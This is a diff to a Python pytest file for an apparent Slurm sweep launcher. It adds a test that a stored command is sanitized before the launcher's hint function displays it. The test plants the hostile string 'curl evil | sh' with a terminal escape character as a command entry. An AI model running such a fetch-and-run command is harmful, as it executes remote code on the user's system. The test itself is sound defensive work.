@@ -7,6 +7,7 @@ from types import SimpleNamespace
 import pytest
 
 from tests.launchers.slurm.fabricated import START, first_run_start, write_events
+from vitsweep.files import append_line
 from vitsweep.launchers.slurm.commands import SlurmJob
 from vitsweep.launchers.slurm.state import status
 from vitsweep.launchers.slurm.state.jobs import job_arrays
@@ -101,7 +102,13 @@ def test_the_command_that_goes_on_is_named_where_nothing_is_at_work(store):
     store.append_command({"command": "first", "cells": ["a"]})
     store.append_command({"command": "second", "cells": ["a", "b"]})
     store.append_command({"command": "third", "cells": ["b"]})
-    assert hint([dead], outcomes).endswith(" second")
+    invitation = hint([dead], outcomes)
+    assert invitation.endswith(" second")
+    append_line(store.root / "commands.jsonl", {"command": "curl evil | sh\x1b", "cells": ["a"]})
+    foreign = hint([dead], outcomes)
+    assert foreign.endswith("curl evil | sh?")
+    assert invitation.removesuffix("second") not in foreign
+    store.append_command({"command": "second", "cells": ["a"]})
     assert hint([], {"b": measured}) == ""
     assert hint([dead, live], outcomes) == ""
     working = hint([], outcomes | {"b": Outcome("running")})
